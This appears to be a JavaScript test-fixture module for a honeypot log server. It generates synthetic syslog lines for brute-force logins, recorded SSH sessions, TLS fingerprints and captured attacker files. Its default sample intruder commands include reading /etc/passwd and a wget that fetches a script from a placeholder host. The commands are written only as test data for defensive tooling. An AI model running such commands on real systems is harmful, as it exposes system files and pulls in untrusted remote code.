// A fixture stream in the format the deckies send (RFC 5424, relay@55555 structured data):
// logins against several services from a handful of documentation-range addresses, with a few
// passwords reused across targets so the reuse index has findings. Deterministic for a seed.
import { Buffer } from "node:buffer";

function rng(seed) {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

export function fixtureLines({ count = 300, seed = 7, now = Date.now() } = {}) {
  const random = rng(seed);
  const pick = (list) => list[Math.floor(random() * list.length)];
  const ips = [...Array.from({ length: 24 }, (_, i) => `203.0.113.${10 + i}`), "198.51.100.23", "2001:db8::77"];
  const services = ["ssh", "ftp", "pop3", "imap", "telnet", "mysql"];
  const users = ["root", "admin", "oracle", "ubuntu", "test"];
  const passwords = ["123456", "password", "Summer2026!", "admin", "letmein", "qwerty"];
  const lines = [];
  for (let i = 0; i < count; i++) {
    const ts = new Date(now - (count - i) * 20_000).toISOString().replace("Z", "+00:00");
    const ip = pick(ips);
    const decky = `decky-0${1 + Math.floor(random() * 6)}`;
    const service = pick(services);
    if (i % 3 === 0) {
      lines.push(`<134>1 ${ts} ${decky} ${service} - connection [relay@55555 src_ip="${ip}" src_port="${40000 + i}"] connection accepted`);
    } else {
      lines.push(authLine({ ts, decky, service, ip, user: pick(users), password: pick(passwords) }));
    }
  }
  return lines;
}

export function authLine({ ts = new Date().toISOString(), decky, service, ip, user, password }) {
  const b64 = Buffer.from(password).toString("base64");
  return `<134>1 ${ts} ${decky} ${service} - auth_attempt [relay@55555 username="${user}" principal="${user}" secret_printable="${password}" secret_b64="${b64}" src_ip="${ip}"]`;
}

// One shell session from connect to disconnect with a few commands a second apart, so the
// server builds a session row and a behaviour profile for the address.
// A shell session as a decky records it: the shard's JSONL lines sent in base64 pieces
// (session_recording_chunk), then session_recorded. What is typed is echoed in the output.
export function recordedSessionLines({ ip, decky = "omega-decky", sid = "rec1", text = "uname -a\r", now = Date.now() }) {
  const lines = [JSON.stringify({ sid, hdr: { version: 2, width: 80, height: 24, timestamp: Math.floor(now / 1000), env: {} } })];
  let t = 0;
  for (const c of text) {
    t += 0.1;
    lines.push(JSON.stringify({ sid, t: Number(t.toFixed(6)), ch: "i", d: c }));
    lines.push(JSON.stringify({ sid, t: Number((t + 0.01).toFixed(6)), ch: "o", d: c === "\r" ? "\r\nLinux web-01 6.1.0-18-amd64\r\nroot@web-01:~# " : c }));
  }
  const shard = lines.join("\n") + "\n";
  const ts = new Date(now - 1000).toISOString().replace("Z", "+00:00");
  const out = [];
  for (let seq = 0, off = 0; off < shard.length; seq++, off += 600) {
    const last = off + 600 >= shard.length;
    const data = Buffer.from(shard.slice(off, off + 600), "utf8").toString("base64");
    out.push(`<134>1 ${ts} ${decky} sessrec - session_recording_chunk [relay@55555 sid="${sid}" service="ssh" src_ip="${ip}" seq="${seq}" last="${last}" data_b64="${data}"]`);
  }
  out.push(`<134>1 ${ts} ${decky} sessrec - session_recorded [relay@55555 sid="${sid}" service="ssh" src_ip="${ip}" duration_s="${t.toFixed(3)}" bytes="${shard.length}" truncated="false"]`);
  return out;
}

export function sessionLines({ ip, decky = "decky-03", sid = "s1", commands = ["uname -a", "id", "cat /etc/passwd", "wget http://198.51.100.9/x.sh"], now = Date.now() }) {
  const at = (i) => new Date(now - (commands.length + 2 - i) * 1000).toISOString().replace("Z", "+00:00");
  const sd = (extra = "") => `[relay@55555 sid="${sid}" src_ip="${ip}"${extra}]`;
  return [
    `<134>1 ${at(0)} ${decky} ssh - connect ${sd()}`,
    ...commands.map((c, i) => `<134>1 ${at(i + 1)} ${decky} ssh - command ${sd(` command="${c.replace(/["\\\]]/g, "\\$&")}"`)}`),
    `<134>1 ${at(commands.length + 1)} ${decky} ssh - disconnect ${sd()}`,
  ];
}

// A client hello seen by the sniffer: the client's JA3 (32 hex digits).
export function ja3Line({ ts = new Date().toISOString(), ip, ja3 }) {
  return `<134>1 ${ts} decky-01 sniffer - tls_client_hello [relay@55555 src_ip="${ip}" ja3="${ja3}"]`;
}

// A file an attacker dropped, captured by the SSH decky (SHA-256 of its content).
export function droppedFileLine({ ts = new Date().toISOString(), ip, sha256, decky = "decky-04" }) {
  return `<134>1 ${ts} ${decky} ssh - file_captured [relay@55555 src_ip="${ip}" sha256="${sha256}" stored_as="${sha256.slice(0, 12)}_x.sh" size="120"]`;
}
